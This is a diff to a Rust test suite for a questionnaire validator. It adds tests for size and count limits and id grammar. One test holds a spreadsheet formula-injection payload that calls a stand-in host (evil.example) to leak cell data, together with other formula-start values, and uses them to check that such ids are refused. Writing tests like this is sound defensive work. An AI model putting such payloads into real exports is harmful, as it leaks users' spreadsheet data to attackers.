@@ -65,10 +65,10 @@ const BROKEN: &[(&str, &[&str])] = &[
         "profile-broken-rules.json",
         &[
             "profile[2]: id \"size\" is used twice",
-            "profile[0].id: \"Team\" is not made of lowercase letters, digits and hyphens only",
+            "profile[0].id: \"Team\" is not a background id: use 1 to 64 lowercase letters, digits and hyphens, starting with a letter or digit",
             "profile[0].text: \"nl\" is not one of the questionnaire's languages",
             "profile[0].answers[1]: id \"design\" is used twice",
-            "profile[0].answers[2].id: \"r&d\" is not made of lowercase letters, digits and hyphens only",
+            "profile[0].answers[2].id: \"r&d\" is not a background id: use 1 to 64 lowercase letters, digits and hyphens, starting with a letter or digit",
             "profile[1].text: \"en\" text is empty",
             "profile[1].answers: expected at least 2 answers, found 1",
             "profile[2].answers[1].text: \"en\" text missing",
@@ -463,4 +463,179 @@ fn the_checker_skips_a_byte_order_mark_as_browsers_do() {
     std::fs::remove_dir_all(&dir).unwrap();
     assert_eq!(code, 0, "{out}");
     assert!(out.contains(": valid: \"digital-workplace\""), "{out}");
+}
+
+// Limits: every count and size has a most, refused with its path, and
+// nothing past a size or count limit is read.
+
+use maturity_quiz::model::{is_id, is_profile_id, limits};
+
+/// The example after `change`, as JSON text.
+fn example_with(change: impl FnOnce(&mut Value)) -> String {
+    let mut value: Value = serde_json::from_str(&read(EXAMPLE)).unwrap();
+    change(&mut value);
+    value.to_string()
+}
+
+/// The problems of `json`, none when it is valid.
+fn problems_of(json: &str) -> Vec<String> {
+    match Questionnaire::from_json(json) {
+        Ok(_) => Vec::new(),
+        Err(invalid) => invalid.problems().to_vec(),
+    }
+}
+
+/// `list` made `n` long by repeating its last item.
+fn lengthen(list: &mut Value, n: usize) {
+    let list = list.as_array_mut().unwrap();
+    let last = list.last().unwrap().clone();
+    list.resize(n, last);
+}
+
+#[test]
+fn each_list_may_reach_its_limit_and_not_pass_it() {
+    let lists: [(&str, usize, &str); 4] = [
+        ("languages", limits::LANGUAGES, "languages"),
+        ("dimensions", limits::DIMENSIONS, "dimensions"),
+        ("questions", limits::QUESTIONS, "questions"),
+        ("profile", limits::PROFILE_QUESTIONS, "background questions"),
+    ];
+    for (field, most, what) in lists {
+        let at = problems_of(&example_with(|v| lengthen(&mut v[field], most)));
+        assert!(
+            !at.iter().any(|p| p.contains("at most")),
+            "{field} at {most}: {at:?}"
+        );
+        let over = problems_of(&example_with(|v| lengthen(&mut v[field], most + 1)));
+        assert_eq!(
+            over,
+            [format!(
+                "{field}: at most {most} {what}, found {}",
+                most + 1
+            )],
+            "only the limit is reported, nothing of the list is read"
+        );
+    }
+    let answers = |n| example_with(|v| lengthen(&mut v["profile"][0]["answers"], n));
+    assert!(
+        !problems_of(&answers(limits::PROFILE_ANSWERS))
+            .iter()
+            .any(|p| p.contains("at most"))
+    );
+    assert_eq!(
+        problems_of(&answers(limits::PROFILE_ANSWERS + 1)),
+        [format!(
+            "profile[0].answers: at most {} answers, found {}",
+            limits::PROFILE_ANSWERS,
+            limits::PROFILE_ANSWERS + 1
+        )]
+    );
+}
+
+#[test]
+fn a_file_may_reach_the_size_limit_and_not_pass_it() {
+    let json = read(EXAMPLE);
+    let padded = |len: usize| format!("{json}{}", " ".repeat(len - json.len()));
+    assert_eq!(problems_of(&padded(limits::BYTES)), Vec::<String>::new());
+    assert_eq!(
+        problems_of(&padded(limits::BYTES + 1)),
+        [format!(
+            "the file has {} bytes; a questionnaire may have at most {}",
+            limits::BYTES + 1,
+            limits::BYTES
+        )]
+    );
+}
+
+#[test]
+fn a_text_may_reach_the_length_limit_and_not_pass_it() {
+    let with_title =
+        |chars: usize| example_with(|v| v["title"]["en"] = Value::from("é".repeat(chars)));
+    assert_eq!(
+        problems_of(&with_title(limits::TEXT_CHARS)),
+        Vec::<String>::new()
+    );
+    assert_eq!(
+        problems_of(&with_title(limits::TEXT_CHARS + 1)),
+        [format!(
+            "title.en: at most {} characters, found {}",
+            limits::TEXT_CHARS,
+            limits::TEXT_CHARS + 1
+        )]
+    );
+}
+
+#[test]
+fn a_hundred_problems_are_listed_and_the_rest_counted() {
+    // The last question repeated up to 150: each copy's id is used twice.
+    let given = example().questions.len();
+    let json = example_with(|v| lengthen(&mut v["questions"], 150));
+    let invalid = Questionnaire::from_json(&json).unwrap_err();
+    let more = 150 - given - limits::PROBLEMS_LISTED;
+    assert_eq!(invalid.problems().len(), limits::PROBLEMS_LISTED);
+    assert!(invalid.problems()[0].ends_with("is used twice"));
+    assert_eq!(invalid.omitted(), more);
+    assert!(
+        invalid
+            .to_string()
+            .ends_with(&format!("…and {more} more problems"))
+    );
+}
+
+#[test]
+fn a_formula_as_an_id_is_refused_with_its_path() {
+    let formula = r#"=HYPERLINK("https://evil.example/?leak="&A2,"Open")"#;
+    let json = example_with(|v| {
+        v["id"] = Value::from(formula);
+        v["phases"][0]["id"] = Value::from("+1+cmd");
+        v["dimensions"][0]["id"] = Value::from("@sum");
+        v["questions"][1]["id"] = Value::from("-a1");
+    });
+    let rule = "is not an id: use 1 to 64 letters, digits, '-', '_' and '.', starting with a letter or digit";
+    let problems = problems_of(&json);
+    for (path, id) in [
+        ("id", "\"=HYPERLINK(\"https://evil.example/?leak=\"…\""),
+        ("phases[0].id", "\"+1+cmd\""),
+        ("dimensions[0].id", "\"@sum\""),
+        ("questions[1].id", "\"-a1\""),
+    ] {
+        let expected = format!("{path}: {id} {rule}");
+        assert!(problems.contains(&expected), "{expected} in {problems:#?}");
+    }
+}
+
+/// A character a spreadsheet reads as the start of a formula.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(512))]
+
+    #[test]
+    fn every_id_of_the_grammar_is_taken(id in "[A-Za-z0-9][A-Za-z0-9._-]{0,63}") {
+        prop_assert!(is_id(&id));
+    }
+
+    #[test]
+    fn every_background_id_of_its_grammar_is_taken(id in "[a-z0-9][a-z0-9-]{0,63}") {
+        prop_assert!(is_profile_id(&id));
+        prop_assert!(is_id(&id));
+    }
+
+    #[test]
+    fn no_id_starts_a_formula_or_leaves_the_grammar(id in "\\PC{0,70}") {
+        let grammar = (1..=64).contains(&id.len())
+            && id.starts_with(|c: char| c.is_ascii_alphanumeric())
+            && id.chars().all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c));
+        prop_assert_eq!(is_id(&id), grammar);
+        if is_id(&id) {
+            prop_assert!(!id.starts_with(FORMULA_STARTS));
+        }
+    }
+
+    #[test]
+    fn an_id_with_any_formula_start_is_refused(start in prop::sample::select(&FORMULA_STARTS[..]), rest in "[a-z0-9]{0,10}") {
+        let id = format!("{start}{rest}");
+        prop_assert!(!is_id(&id));
+        prop_assert!(!is_profile_id(&id));
+    }
 }
